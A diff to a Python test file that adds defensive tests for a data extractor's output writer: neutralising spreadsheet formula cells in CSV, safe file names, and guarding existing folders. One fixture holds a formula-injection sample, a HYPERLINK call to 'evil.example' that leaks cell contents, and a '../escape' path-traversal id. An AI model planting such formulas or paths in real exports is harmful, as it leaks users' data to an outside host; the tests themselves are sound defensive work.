@@ -1,8 +1,11 @@
 import pandas as pd
 import pyarrow.parquet as pq
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
-from extractor.outputs import OutputError, RunWriter, csv_to_parquet, read_table, write_table
+from extractor.outputs import (OutputError, RunWriter, csv_to_parquet, neutralise, read_table,
+                               unneutralise, write_table)
 
 
 def test_tables_round_trip_through_csv_and_parquet(tmp_path):
@@ -39,7 +42,8 @@ def test_a_failed_run_leaves_the_previous_outputs_untouched(tmp_path):
                        "text")
             raise RuntimeError("crash in the middle of a run")
     assert (out / "claims.csv").read_text() == "previous run\n"
-    assert sorted(p.name for p in out.iterdir()) == ["claims.csv"]  # no partial folder left
+    assert sorted(p.name for p in out.iterdir()) == ["claims.csv"]
+    assert not list(tmp_path.glob(".out.partial-*"))  # no staging folder left
 
 
 def test_an_unwritable_output_folder_is_an_output_error(tmp_path):
@@ -47,3 +51,67 @@ def test_an_unwritable_output_folder_is_an_output_error(tmp_path):
     blocker.write_text("not a folder")
     with pytest.raises(OutputError, match="cannot write"):
         RunWriter(blocker / "out")
+
+
+def test_formula_cells_are_neutralised_in_csv_and_raw_in_parquet(tmp_path):
+    raw = ["=HYPERLINK(\"http://evil.example/?leak=\"&A1)", "+1+1", "-x", "@SUM(A1)", "\tcmd",
+           "-20", "-20%", "'=already quoted", "plain"]
+    df = pd.DataFrame({"sentence": raw, "value": [-20.0] * len(raw)})
+    write_table(df, tmp_path / "t.csv")
+    cells = pd.read_csv(tmp_path / "t.csv", dtype=str, keep_default_na=False)
+    assert cells["sentence"].tolist() == [
+        "'=HYPERLINK(\"http://evil.example/?leak=\"&A1)", "'+1+1", "'-x", "'@SUM(A1)", "'\tcmd",
+        "-20", "-20%", "''=already quoted", "plain"]
+    assert cells["value"].tolist() == ["-20"] * len(raw)
+    assert read_table(tmp_path / "t.csv")["sentence"].tolist() == raw
+    csv_to_parquet(tmp_path / "t.csv", tmp_path / "t.parquet")
+    assert pq.read_table(tmp_path / "t.parquet").column("sentence").to_pylist() == raw
+
+
+@given(st.text(max_size=30))
+def test_neutralised_cells_never_start_a_formula_and_read_back_raw(text):
+    cell = neutralise(text)
+    assert unneutralise(cell) == text
+    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+        float(cell.rstrip("%").replace(",", ""))  # only a plain number may
+
+
+def test_a_doc_id_that_cannot_be_a_file_name_gets_a_safe_unique_one(tmp_path):
+    long_id = "n" * 300 + ".txt"
+    with RunWriter(tmp_path / "out", columns={"documents": ["doc_id", "clean_path"]}) as writer:
+        for doc_id in ("x", "x.txt/a.txt", long_id, "../escape"):
+            writer.add({"doc_id": doc_id}, [], f"text of {doc_id}")
+        writer.ensure_tables()
+        writer.close_streams()
+        docs = read_table(writer.partial_path("documents.csv")).set_index("doc_id")["clean_path"]
+        assert docs["x"] == "clean/x.txt"
+        for doc_id in ("x.txt/a.txt", long_id, "../escape"):
+            assert docs[doc_id].startswith("clean/_renamed/"), doc_id
+        for doc_id, path in docs.items():
+            assert (writer.partial / path).read_text(encoding="utf-8") == f"text of {doc_id}"
+        assert docs.is_unique
+
+
+def test_a_second_writer_on_the_same_folder_is_refused(tmp_path):
+    with RunWriter(tmp_path / "out"):
+        with pytest.raises(OutputError, match="another run .* is writing to"):
+            RunWriter(tmp_path / "out")
+
+
+def test_a_folder_holding_other_folders_is_not_replaced(tmp_path):
+    (tmp_path / "home" / "thesis").mkdir(parents=True)
+    (tmp_path / "home" / "thesis" / "main.tex").write_text("years of work")
+    with pytest.raises(OutputError, match="holds folders a run did not write"):
+        RunWriter(tmp_path / "home")
+    assert (tmp_path / "home" / "thesis" / "main.tex").read_text() == "years of work"
+
+
+def test_plain_files_of_the_output_folder_are_carried_over(tmp_path):
+    (tmp_path / "out").mkdir()
+    (tmp_path / "out" / "README.md").write_text("# outputs/")
+    with RunWriter(tmp_path / "out") as writer:
+        writer.add({"doc_id": "a.txt"}, [], "text")
+        writer.ensure_tables()
+        writer.finish(pd.DataFrame({"doc_id": []}), pd.DataFrame({"group_id": []}))
+    assert (tmp_path / "out" / "README.md").read_text() == "# outputs/"
+    assert (tmp_path / "out" / "clean" / "a.txt.txt").read_text() == "text"
